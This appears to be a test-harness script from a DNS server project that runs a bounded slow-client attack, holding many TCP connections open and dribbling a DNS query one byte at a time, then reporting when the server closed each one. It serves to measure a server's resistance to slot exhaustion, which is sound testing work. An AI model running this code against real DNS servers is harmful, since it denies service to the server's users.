#!/usr/bin/env python3
"""The slow-client attack on a DNS server's TCP slots, bounded: opens COUNT connections to
HOST PORT from SOURCE, then sends into each a DNS query ("a.test A", length-prefixed as in
RFC 1035 section 4.2.2) one byte every INTERVAL seconds, for at most SECONDS.

Prints "connected COUNT" once every connection is up, then, at the end, one line
"closed-after D1 D2 ...": for each connection the seconds from its connect to the moment the
server had closed it (reset or end of stream), or "open" when it was still open at the end.
"""
import select
import socket
import sys
import time

# ID 0x1234, RD, one question: "a.test" A IN; the first two bytes are its length, 24.
QUERY = bytes.fromhex("0018 1234 0100 0001 0000 0000 0000 0161 0474 6573 7400 0001 0001".replace(" ", ""))


def main():
    host, port, source = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    count, interval, seconds = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    conns = []  # [socket, connected at, closed after or None, bytes sent]
    for _ in range(count):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.bind((source, 0))
        start = time.monotonic()
        try:
            s.connect((host, port))
            conns.append([s, start, None, 0])
        except ConnectionResetError:
            # Reset as soon as accepted, before this process saw the handshake end.
            conns.append([s, start, 0.0, 0])
            s.close()
    print("connected", count, flush=True)
    end = time.monotonic() + seconds
    while time.monotonic() < end and any(c[2] is None for c in conns):
        for c in conns:
            if c[2] is not None:
                continue
            s = c[0]
            try:
                readable, _, _ = select.select([s], [], [], 0)
                # No answer can come (the query is never whole): readable means closed.
                if readable and s.recv(1) == b"":
                    raise ConnectionResetError("end of stream")
                s.send(QUERY[c[3] % len(QUERY):][:1])
                c[3] += 1
            except OSError:
                c[2] = time.monotonic() - c[1]
                s.close()
        time.sleep(interval)
    print("closed-after", " ".join("open" if c[2] is None else "%.2f" % c[2] for c in conns), flush=True)


main()
